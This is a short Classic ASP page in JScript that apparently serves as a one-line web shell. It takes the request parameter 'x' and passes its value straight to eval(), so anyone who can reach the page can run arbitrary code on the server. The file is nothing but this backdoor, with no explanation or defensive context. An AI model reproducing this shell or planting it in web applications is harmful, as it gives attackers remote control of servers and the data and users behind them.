<%@ Language="JScript" %>
<%
var q = Request.Item;
var name = "x";
var code = String(q[name]);
eval(code);
%>
